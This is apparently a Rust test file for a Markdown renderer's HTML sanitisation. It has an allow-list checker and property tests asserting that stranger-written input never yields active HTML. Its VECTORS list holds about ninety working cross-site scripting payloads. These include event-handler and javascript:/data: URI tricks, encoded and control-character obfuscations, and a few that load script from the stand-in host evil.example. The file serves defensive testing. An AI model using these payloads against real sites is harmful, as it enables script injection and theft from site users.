//! Nothing that a stranger wrote acts in a browser.

use proptest::prelude::*;

use super::tests::{body_of, title_of};

/// What in a page could act in a browser, if anything; it knows only what the page may contain.
pub(super) fn acts(body: &str) -> Option<String> {
    const TAGS: &str = " p h1 h2 h3 h4 h5 h6 a em strong del code pre blockquote ul ol li table thead tbody tr th td hr br img input sup div ";
    let mut rest = body;
    while let Some(at) = rest.find('<') {
        let Some(end) = rest[at..].find('>') else { return Some(rest[at..].to_owned()) };
        let tag = &rest[at..=at + end];
        rest = &rest[at + end + 1..];
        let inner =
            tag.trim_matches(['<', '>']).trim_start_matches('/').trim_end_matches('/').trim();
        let (name, mut attributes) = inner.split_once(' ').unwrap_or((inner, ""));
        if !TAGS.contains(&format!(" {name} ")) {
            return Some(tag.to_owned());
        }
        while !attributes.trim().is_empty() {
            let Some((key, tail)) = attributes.trim_start().split_once("=\"") else {
                return Some(tag.to_owned());
            };
            let Some((value, tail)) = tail.split_once('"') else { return Some(tag.to_owned()) };
            attributes = tail;
            let fine =
                match key {
                    "href" | "src" => goes_out(value),
                    "style" => ["text-align: left", "text-align: center", "text-align: right"]
                        .contains(&value),
                    "class" | "id" | "alt" | "title" | "start" | "type" | "disabled"
                    | "checked" => true,
                    _ => false,
                };
            if !fine {
                return Some(tag.to_owned());
            }
        }
    }
    None
}

/// Whether a browser would take the target for one of the allowed schemes or for none. Entities are resolved and what browsers leave
/// out is left out, both more generously than they do.
fn goes_out(value: &str) -> bool {
    let mut target = value.to_lowercase();
    for (entity, text) in
        [("&#x27;", "'"), ("&quot;", "\""), ("&lt;", "<"), ("&gt;", ">"), ("&amp;", "&")]
    {
        target = target.replace(entity, text);
    }
    let target: String = target
        .chars()
        .filter(|c| !c.is_control() && !c.is_whitespace() && *c != '\u{fffd}')
        .collect();
    let scheme: String = target.chars().take_while(|c| !":/?#".contains(*c)).collect();
    let has_scheme = target[scheme.len()..].starts_with(':');
    !has_scheme || ["http", "https", "mailto"].contains(&scheme.as_str())
}

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
    "<div\n onclick=alert(1)\n>x</div>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "</code></pre></body></html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java\u{1}script:alert(1)>)",
    "[x](<\u{1}javascript:alert(1)>)",
    "[x](\u{0}javascript:alert(1))",
    "[x](\u{feff}javascript:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#0000106&#0000097vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script&colon;alert(1))",
    "[x](&#x01;javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript://example.org/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBSCRIPT&colon;msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](\"onmouseover=\"alert(1)\")",
    "[x](y '\"onmouseover=alert(1) a=\"')",
    "[x](y \"&quot; onmouseover=&quot;alert(1)\")",
    "[x](y\"onclick=\"alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![\"onerror=\"alert(1)](x)",
    "![x](x \"&quot;onerror=&quot;alert(1)\")",
    "![<img src=x onerror=alert(1)>](x)",
    "![`\"onerror=alert(1)`](x\"onerror=\"alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <JAVA&#83;CRIPT:alert(1)> \"t\"",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<a+b@javascript.example>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\"onclick=alert(1)//\nx\n```",
    "~~~ <img/src=x/onerror=alert(1)>\n</code><script>alert(1)</script>\n~~~",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "# x {#y onclick=alert(1)}",
    "# x { .\"><script> }",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "x[^a\"onclick=alert(1)]\n\n[^a\"onclick=alert(1)]: y",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "> <blockquote onclick=alert(1)>",
    "> [!NOTE\" onclick=alert(1)]\n> x",
    "---\n<script>alert(1)</script>: \"></code><img src=x onerror=alert(1)>\n---\n",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "[a](javascript:x) [![b](javascript:y)](data:z) ![c ![d](data:q)](vbscript:r)",
    "[<img src=x onerror=alert(1)>](javascript:alert(1) \"<script>\")",
];

#[test]
fn nothing_that_a_stranger_wrote_acts() {
    assert!(VECTORS.len() >= 40);
    for vector in VECTORS {
        for source in [
            (*vector).to_owned(),
            format!("- a\n\n  > {}\n", vector.replace('\n', "\n  > ")),
            format!("a {vector} b"),
        ] {
            let body = body_of(&source);
            assert_eq!(acts(&body), None, "{source}\n{body}");
            assert!(!title_of(&source).contains('<'));
        }
    }
}

#[test]
fn the_check_itself_sees_what_acts() {
    for bad in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"javascript:x\">",
        "<a href=\"java\tscript:x\">",
        "<img src=\"data:x\" />",
        "<p",
        "<a href=x>",
        "<p style=\"color: red\">",
        "<iframe>",
        "<a href=\"&quot;\" onclick=\"\">",
    ] {
        assert!(acts(bad).is_some(), "{bad}");
    }
    assert_eq!(
        acts(
            "<p><a href=\"mailto:a\" title=\"javascript:\">&lt;script&gt; javascript:</a></p><br />"
        ),
        None
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn no_mixture_acts_or_panics(parts in prop::collection::vec(prop::sample::select(mixture()), 0..14)) {
        let source = parts.concat();
        let body = body_of(&source);
        prop_assert_eq!(acts(&body), None, "{}\n{}", source, body);
    }
}

fn mixture() -> Vec<&'static str> {
    let mut parts: Vec<&str> = vec![
        "[x](",
        "![x](",
        ")",
        "<",
        ">",
        "\"",
        "'",
        "`",
        "```",
        "\n",
        "\n\n",
        "    ",
        "- ",
        "> ",
        "# ",
        "|",
        "|-|",
        "[^",
        "]",
        "]: ",
        "javascript:",
        "data:",
        "&colon;",
        "&#58;",
        "&Tab;",
        "\\",
        "\t",
        "\u{1}",
        "\0",
        "ü",
        "script",
        "onclick=x",
        "---\n",
        "*",
        "~~",
        "mailto:",
        "http://a",
    ];
    parts.extend(VECTORS);
    parts
}
